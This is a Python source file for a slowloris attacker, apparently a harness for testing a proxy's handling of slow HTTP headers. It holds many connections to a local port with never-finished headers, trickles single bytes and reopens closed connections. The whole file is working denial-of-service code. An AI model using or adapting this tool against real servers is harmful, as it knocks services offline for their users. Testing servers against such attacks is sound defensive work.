"""The attacker of `slowloris`, a program of its own: heads that never end, a byte of each now and then.

What the proxy closes is opened again. Connections are opened over `--spread` seconds, so that the proxy's deadlines
for heads come spread as well, and the bytes are sent a few at a time, so that nothing comes in bursts.
"""

import argparse
import socket
import struct
import time

_TURN = 0.002
_RESET = struct.pack("ii", 1, 0)
_BEGUN = b"GET /api/small HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "


class Attack:
    """All slow connections to one port."""

    def __init__(self, port: int, connections: int) -> None:
        self._port = port
        self._most = connections
        self._held: list[socket.socket] = []
        self._next = 0
        self.refused = 0

    @property
    def held(self) -> int:
        return len(self._held)

    def open(self, count: int) -> None:
        """Open up to *count* more."""
        for _ in range(min(count, self._most - len(self._held))):
            self._held.append(self._opened())

    def step(self, count: int) -> None:
        """Send one byte on each of the next *count* connections, or open them anew."""
        for _ in range(min(count, len(self._held))):
            place = self._next = (self._next + 1) % len(self._held)
            if not _alive(self._held[place]):
                self._held[place].close()
                self.refused += 1
                self._held[place] = self._opened()

    def close(self) -> None:
        for one in self._held:
            one.close()

    def _opened(self) -> socket.socket:
        one = socket.create_connection(("127.0.0.1", self._port), timeout=5)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, _RESET)
        one.sendall(_BEGUN)
        one.setblocking(False)
        return one


def _alive(one: socket.socket) -> bool:
    """Whether the proxy still waits for the rest; if so it gets one byte more."""
    try:
        one.recv(512)  # an answer is a refusal, nothing at all is a close
    except BlockingIOError:
        pass
    except OSError:
        return False
    else:
        return False
    try:
        one.send(b"a")
    except OSError:
        return False
    return True


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--connections", type=int, required=True)
    parser.add_argument("--every", type=float, required=True, help="seconds between two bytes of one connection")
    parser.add_argument("--spread", type=float, required=True, help="seconds over which they are opened")
    options = parser.parse_args()
    attack = Attack(options.port, options.connections)
    begun = said = time.monotonic()
    sent = 0.0
    while True:
        time.sleep(_TURN)
        now = time.monotonic()
        attack.open(round(options.connections * min(1.0, (now - begun) / options.spread)) - attack.held)
        sent += attack.held * _TURN / options.every
        attack.step(int(sent))
        sent -= int(sent)
        if now - said >= 0.5:
            said = now
            print(attack.held, attack.refused, flush=True)


if __name__ == "__main__":
    main()
